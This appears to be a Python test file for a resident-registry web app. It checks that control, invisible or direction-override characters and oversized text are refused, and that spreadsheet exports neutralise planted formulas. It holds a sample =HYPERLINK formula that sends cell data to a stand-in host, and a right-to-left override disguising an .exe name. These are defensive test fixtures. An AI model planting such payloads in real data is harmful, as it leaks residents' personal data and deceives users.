"""Text a caller sends is refused with a typed error when it holds control or text-direction
characters, is blank but for invisible ones, or is too long, and nothing is written; text
stored before (or planted in the database) leaves an export as text, never as a formula, and
never breaks it."""

from __future__ import annotations

import io

import openpyxl

from redgrid.platform.database import tenant_transaction
from redgrid.platform.models import Tenant
from redgrid.tenants.people.models import Resident

from .clients import gql_data
from .people_api import CREATE_RESIDENT, create_resident, unique_name
from .registers_api import download, imported

B03 = "JS01.A1.B03"
REPORT = (
    """mutation($input: ReportCaseInput!) { reportCase(input: $input) { case { id } errors { field code message } } }"""
)
FORMULA = '=HYPERLINK("http://x.example/?"&B2&C2,"详情")'


async def residents_named(tenant: Tenant, name: str) -> int:
    async with tenant_transaction(tenant.id):
        return await Resident.filter(tenant_id=tenant.id, name__contains=name).count()


async def test_names_with_invisible_or_control_characters_are_refused_and_nothing_is_written(
    live_server, tokens, grid, db, street
):
    marker = unique_name("坏")
    cases = {
        "\u200b\u200d\ufeff ": "INVALID_NAME",  # only zero-width characters: blank
        f"{marker}\u202egnp.exe": "INVALID_TEXT",  # a right-to-left override
        f"{marker}\x00": "INVALID_TEXT",
        f"{marker}\n第二行": "INVALID_TEXT",  # a name is one line
        marker + "名" * 200: "INVALID_NAME",
    }
    for name, code in cases.items():
        payload = (
            await gql_data(
                live_server, CREATE_RESIDENT, {"input": {"nodeId": grid[B03]["id"], "name": name}}, tokens["secretary"]
            )
        )["createResident"]
        assert payload["resident"] is None and [(e["field"], e["code"]) for e in payload["errors"]] == [
            ("name", code)
        ], name
    assert await residents_named(street.tenant, marker) == 0


async def test_a_megabyte_description_and_control_characters_in_a_case_are_refused(live_server, tokens, grid, db):
    category = (await gql_data(live_server, "{ caseCategories { id } }", token=tokens["secretary"]))["caseCategories"][
        0
    ]["id"]
    base = {"title": unique_name("案"), "categoryId": category, "source": "PATROL", "nodeId": grid[B03]["id"]}
    for extra, field, code in (
        ({"description": "x" * 1_000_000}, "description", "TOO_LONG"),
        ({"address": "3号楼\u2066门口"}, "address", "INVALID_TEXT"),
        ({"title": "\u2060"}, "title", "INVALID_TITLE"),
    ):
        payload = (await gql_data(live_server, REPORT, {"input": {**base, **extra}}, tokens["secretary"]))["reportCase"]
        assert payload["case"] is None and [(e["field"], e["code"]) for e in payload["errors"]] == [(field, code)]
    fine = await gql_data(
        live_server, REPORT, {"input": {**base, "description": "第一行\n\t第二行"}}, tokens["secretary"]
    )
    assert fine["reportCase"]["errors"] == []  # a multi-line text keeps its line feeds and tabs


async def test_a_planted_formula_or_control_character_leaves_the_export_as_text_and_imports_back(
    live_server, tokens, grid, db, street
):
    tenant = street.tenant
    formula = await create_resident(live_server, tokens["grid-head"], grid[B03]["id"])
    broken = await create_resident(live_server, tokens["grid-head"], grid[B03]["id"], phone="13800000009")
    async with tenant_transaction(tenant.id):  # as a row written before the text rule (PostgreSQL holds no NUL)
        await Resident.filter(tenant_id=tenant.id, name=formula["name"]).update(name=FORMULA)
        await Resident.filter(tenant_id=tenant.id, name=broken["name"]).update(name=broken["name"] + "\x07\x1b")
    response = await download(live_server, tokens["grid-head"], "residents")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    planted = [c for c in cells if c.value == FORMULA]
    assert len(planted) == 1 and planted[0].data_type == "s" and planted[0].quotePrefix
    assert [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(broken["name"])] == [
        broken["name"] + "\ufffd\ufffd"
    ]

    # The file imports back: every row with a number a duplicate, the planted texts read as written.
    back = await imported(live_server, tokens["grid-head"], "RESIDENTS", "back.xlsx", response.content)
    assert back["imported"] == 0 and back["errors"] == []
    assert {e["reason"] for e in back["rowErrors"]} == {"already registered in this tenant"}
    async with tenant_transaction(tenant.id):
        await Resident.filter(tenant_id=tenant.id, name=FORMULA).update(name=formula["name"])
        await Resident.filter(tenant_id=tenant.id, name=broken["name"] + "\x07\x1b").update(name=broken["name"])
